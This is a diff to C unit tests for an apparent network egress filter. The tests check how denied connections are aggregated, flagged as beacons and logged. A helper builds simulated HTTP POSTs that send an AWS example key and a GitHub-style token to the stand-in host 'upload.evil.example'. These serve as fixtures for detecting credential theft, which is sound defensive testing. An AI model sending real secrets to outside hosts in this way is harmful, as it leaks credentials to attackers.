@@ -42,6 +42,8 @@ struct evrec {
 	char imitates[254];
 	enum severity sev;
 	uint16_t dport;
+	bool aggregated;
+	uint64_t first_ns, last_ns;
 };
 
 struct h {
@@ -90,6 +92,9 @@ static void on_event(void *arg, const struct flow_event *ev)
 	snprintf(r->imitates, sizeof r->imitates, "%s", ev->ind.imitates);
 	r->sev = ev->ind.severity;
 	r->dport = ev->dport;
+	r->aggregated = ev->aggregated;
+	r->first_ns = ev->first_ns;
+	r->last_ns = ev->last_ns;
 	assert_true(ev->count >= 1);
 }
 
@@ -1378,18 +1383,106 @@ static void test_aggregation_and_beacon(void **state)
 	/* three denials of the same destination within 1 s, different source ports */
 	for (uint16_t i = 0; i < 3; i++)
 		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, 1 + i);
-	assert_int_equal(h->nev, 1);
-	assert_int_equal(h->ev[0].count, 1);
-	engine_tick(h->e, S / 2);
-	assert_int_equal(h->nev, 1);
-	engine_tick(h->e, 2 * S);
+	/* the first; the second aggregated; the third (in 60 s) is a beacon:
+	 * a new indicator, so a line of its own (issue 12) */
 	assert_int_equal(h->nev, 2);
-	assert_int_equal(h->ev[1].count, 2);
-	assert_int_equal(h->ev[1].reason, REASON_IP_NOT_ALLOWED);
-	/* spaced out: separate events; the third in 60 s... and more is a beacon */
-	syn(h, "192.0.2.1", "198.51.100.9", 41000, 443, 3 * S);
+	assert_int_equal(h->ev[0].count, 1);
+	assert_true(h->ev[1].bits & IND_BEACON);
+	engine_tick(h->e, S / 2);
+	assert_int_equal(h->nev, 2);
+	engine_tick(h->e, 2 * S);
 	assert_int_equal(h->nev, 3);
-	assert_true(h->ev[2].bits & IND_BEACON);
+	assert_int_equal(h->ev[2].count, 1);
+	assert_true(h->ev[2].aggregated);
+	assert_false(h->ev[2].bits & IND_BEACON);
+	assert_int_equal(h->ev[2].reason, REASON_IP_NOT_ALLOWED);
+	/* spaced out: separate events, still a beacon */
+	syn(h, "192.0.2.1", "198.51.100.9", 41000, 443, 3 * S);
+	assert_int_equal(h->nev, 4);
+	assert_true(h->ev[3].bits & IND_BEACON);
+	teardown_h(h);
+}
+
+/* Issue 12: aggregation loses nothing. Events that differ only in their
+ * credentials are lines of their own; true repeats carry count and times. */
+static void post_cred(struct h *h, const char *sv, uint16_t sport, const char *body, uint64_t t)
+{
+	char req[512];
+	snprintf(req, sizeof req,
+	         "POST /u HTTP/1.1\r\nHost: upload.evil.example\r\nContent-Length: %zu\r\n\r\n%s",
+	         strlen(body), body);
+	syn(h, "192.0.2.1", sv, sport, 80, t);
+	uint64_t a = seg(h, "192.0.2.1", sv, sport, 80, 0, req, strlen(req), t);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+}
+
+#define AWS_BODY "key=AKIAIOSFODNN7EXAMPLE"
+#define GH_BODY "t=ghp_Qx7RmT2vLw9KpZ4nYc8HsJ3fBd6GaE1uVo5i"
+
+static void test_aggregation_keeps_credentials(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *sv = "198.51.100.80", *sv2 = "198.51.100.81";
+	bind_name(h, "www.example.com", sv); /* the SYN passes, the Host decides */
+	bind_name(h, "www.example.com", sv2);
+	/* the AWS key, then a GitHub token to the same host: two lines */
+	post_cred(h, sv, 40000, AWS_BODY, 1 * S);
+	post_cred(h, sv, 40001, GH_BODY, 1 * S + S / 10);
+	assert_int_equal(h->nev, 2);
+	assert_int_equal(h->ev[0].ctype, CRED_AWS_ACCESS_KEY);
+	assert_int_equal(h->ev[1].ctype, CRED_GITHUB_TOKEN);
+	assert_false(h->ev[0].aggregated || h->ev[1].aggregated);
+	/* elsewhere: the same key twice aggregates; another key of the same type
+	 * (another masked form) is a line of its own */
+	post_cred(h, sv2, 41000, AWS_BODY, 1 * S + 2 * S / 10);
+	post_cred(h, sv2, 41001, AWS_BODY, 1 * S + 3 * S / 10);
+	assert_int_equal(h->nev, 3);
+	post_cred(h, sv2, 41002, "key=AKIAZZZZZZZZZZZZQQQQ", 1 * S + 4 * S / 10);
+	assert_int_equal(h->nev, 4);
+	assert_string_equal(h->ev[3].masked, "AKIA\xe2\x80\xa6QQQQ");
+	engine_tick(h->e, 3 * S);
+	assert_int_equal(h->nev, 5);
+	const struct evrec *agg = &h->ev[4];
+	assert_true(agg->aggregated);
+	assert_int_equal(agg->count, 1);
+	assert_int_equal(agg->ctype, CRED_AWS_ACCESS_KEY);
+	assert_string_equal(agg->masked, "AKIA\xe2\x80\xa6MPLE");
+	assert_int_equal(agg->first_ns, 1 * S + 3 * S / 10);
+	assert_int_equal(agg->last_ns, 1 * S + 3 * S / 10);
+	teardown_h(h);
+}
+
+static void test_aggregation_times(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	/* six denials of one destination, 100 ms apart: the first; the second
+	 * (aggregated); the third flagged beacon (a new indicator: a new line),
+	 * the fourth to sixth aggregated into it */
+	for (uint16_t i = 0; i < 6; i++)
+		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, S + i * (S / 10));
+	assert_int_equal(h->nev, 2);
+	assert_false(h->ev[0].bits & IND_BEACON);
+	assert_true(h->ev[1].bits & IND_BEACON);
+	engine_tick(h->e, 3 * S);
+	assert_int_equal(h->nev, 4);
+	unsigned total = 0;
+	for (unsigned i = 0; i < h->nev; i++) {
+		total += h->ev[i].count;
+		if (!h->ev[i].aggregated)
+			continue;
+		if (h->ev[i].bits & IND_BEACON) {
+			assert_int_equal(h->ev[i].count, 3);
+			assert_int_equal(h->ev[i].first_ns, S + 3 * (S / 10));
+			assert_int_equal(h->ev[i].last_ns, S + 5 * (S / 10));
+		} else {
+			assert_int_equal(h->ev[i].count, 1);
+			assert_int_equal(h->ev[i].first_ns, S + S / 10);
+		}
+	}
+	assert_true(h->ev[2].aggregated && h->ev[3].aggregated);
+	assert_int_equal(total, 6);
 	teardown_h(h);
 }
 
@@ -2470,6 +2563,8 @@ int main(void)
 	    cmocka_unit_test(test_audit_timeout),
 	    cmocka_unit_test(test_hold_bytes_total),
 	    cmocka_unit_test(test_aggregation_and_beacon),
+	    cmocka_unit_test(test_aggregation_keeps_credentials),
+	    cmocka_unit_test(test_aggregation_times),
 	    cmocka_unit_test(test_table_full),
 	    cmocka_unit_test(test_dns_guard),
 	    cmocka_unit_test(test_set_policy),
